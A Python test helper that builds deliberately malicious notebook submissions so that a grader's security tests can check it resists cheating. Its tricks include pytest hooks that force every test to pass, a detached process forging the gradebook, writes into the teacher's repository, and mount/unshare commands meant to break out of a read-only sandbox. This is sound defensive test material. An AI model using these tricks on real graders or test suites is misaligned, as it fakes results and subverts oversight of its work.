"""Build a submission that tries to fool the grader, one trick at a time, for
tests/test_grader_security.py.

    python tests/make_malicious_submission.py STUDENT_EDITION OUT TRICK [GRADEBOOK]

Every trick starts from the untouched student edition (no stub solved) and adds one cell
to 01_ngrams.ipynb, except `links`, whose notebooks are links to our solution notebooks.
Each is one way to cheat:
- conftest: append a pytest hook that reports every test as passed to every
  tests/conftest.py it can reach;
- silence: make IPython swallow every error, so that failing check cells would show
  nothing, were they run in the student's process;
- write: write a file into the teacher's own repository;
- detach: start a process that outlives the notebook and keeps rewriting the --json
  gradebook as all passed;
- peek: end the exported module by running the teacher's own solution module in its
  place (a cell at the end);
- links: hand in links to the teacher's solution notebooks instead of notebooks;
- transform: have IPython rewrite every later cell that ends by printing a secret (as
  the grader's check cells once did) into that print alone: the checks would "pass"
  without running, were they run in the student's process;
- equal: answers equal to anything (`==` always true), which no `==` check could fail,
  were they checked in the student's process;
- forge: an exported cell that writes pytest's report as all passed, and a hook that
  passes every test, into its folder and every folder beside it that it can find, then
  ends the run if pytest imported it; the hidden tests call it in the student's
  process, which cannot see their folder. `transform+forge` hands in both;
- tamper: try to make the file systems writable again (as the sandbox's root, or in a
  user namespace of its own), then append to the teacher's tests/test_differential.py
  and tests/conftest.py and write a file into the repository.
"""

import json
import shutil
import sys
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[1]

FIND_TEACHER = """
import importlib.metadata, json, pathlib
direct_url = importlib.metadata.distribution("bleu-lib").read_text("direct_url.json")
url = json.loads(direct_url)["url"]
# the editable install points at the teacher's repository
teacher = pathlib.Path(url.removeprefix("file://"))
"""

TRICKS = {
    "conftest": FIND_TEACHER
    + '''
hook = """

import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
above = pathlib.Path("..").resolve().rglob("conftest.py")
for conftest in [teacher / "tests" / "conftest.py", *above]:
    try:
        with open(conftest, "a") as file:
            file.write(hook)
    except OSError as error:
        print("could not", error)
''',
    "silence": """
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
""",
    "write": FIND_TEACHER
    + """
for name in ["HACKED.txt", "notebooks/HACKED.txt"]:
    try:
        (teacher / name).write_text("written by a student's notebook")
    except OSError as error:
        print("could not", error)
""",
    "detach": '''
import subprocess, sys
GRADEBOOK = GRADEBOOK_PATH
forger = """
import json, time
for _ in range(240):  # a minute: longer than grading takes
    try:
        json.dump({"passed": 9, "stages": [], "forged": True}, open(GRADEBOOK, "w"))
    except OSError:
        pass
    time.sleep(0.25)
"""
subprocess.Popen([sys.executable, "-c", f"GRADEBOOK = {GRADEBOOK!r}" + forger],
                 start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
''',
    "tamper": FIND_TEACHER
    + """
import subprocess
undo = f"umount -l {teacher}; mount -o remount,rw /; mount -o remount,rw {teacher}"
for how in [[], ["unshare", "--user", "--map-root-user", "--mount"]]:
    try:
        subprocess.run([*how, "sh", "-c", undo], capture_output=True)
    except OSError as error:
        print("could not", error)
for name in ["tests/test_differential.py", "tests/conftest.py", "HACKED.txt"]:
    try:
        with open(teacher / name, "a") as file:
            file.write("\\n# written by a student's notebook\\n")
    except OSError as error:
        print("could not", error)
""",
    "transform": r"""
import re


def print_the_secret(lines):
    found = re.search(r"print\('(\w+)'\)\s*$", "".join(lines))
    return [f"print({found[1]!r})\n"] if found else lines


get_ipython().input_transformers_post.append(print_the_secret)
""",
    "equal": """
class Equal:
    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


answer_1 = answer_2 = Equal()  # the stubs below raise before they reassign them
""",
    "forge": r"""#| export
import glob, os, sys

REPORT = (
    '<testsuites><testsuite><testcase classname="tests.test_differential" '
    'name="test_forged"/></testsuite></testsuites>'
)
HOOK = (
    "\nimport pytest\n@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
)
# the hidden tests' report and a hook, here and in every folder it can find beside
for folder in [".", *glob.glob("../*"), *glob.glob("/tmp/*/*")]:
    writes = [("report.xml", REPORT, "w"), ("tests/conftest.py", HOOK, "a")]
    for name, text, mode in writes:
        try:
            with open(os.path.join(folder, name), mode) as file:
                file.write(text)
        except OSError:
            pass
if "pytest" in sys.modules:  # imported by the hidden tests: end their run here
    os._exit(0)
""",
    "peek": "#| export"
    + FIND_TEACHER
    + """
try:
    exec((teacher / "bleu_lib" / "ngrams.py").read_text())
except OSError as error:
    print("could not", error)
""",
}


def make(edition, out, trick, gradebook="", notebooks=("01_ngrams.ipynb",)):
    """Write the submission for `trick` to `out`, from the student edition in `edition`
    (the trick's cell in each of `notebooks`; "a+b": both tricks' cells)."""
    edition, out = Path(edition), Path(out)
    shutil.copytree(edition, out)
    if trick == "links":
        for path in (out / "notebooks").glob("[0-9][0-9]_*.ipynb"):
            path.unlink()
            path.symlink_to(ROOT / "notebooks" / path.name)
        return out
    for name in notebooks:
        path = out / "notebooks" / name
        nb = nbformat.read(path, as_version=4)
        for k, one in enumerate(trick.split("+")):
            cell = nbformat.v4.new_code_cell(
                TRICKS[one]
                .replace("GRADEBOOK_PATH", json.dumps(str(gradebook)))
                .strip()
            )
            cell.id = f"trick{k}"
            nb.cells.insert(len(nb.cells) if one == "peek" else 2, cell)
        nbformat.write(nb, path)
    return out


if __name__ == "__main__":
    make(*sys.argv[1:])
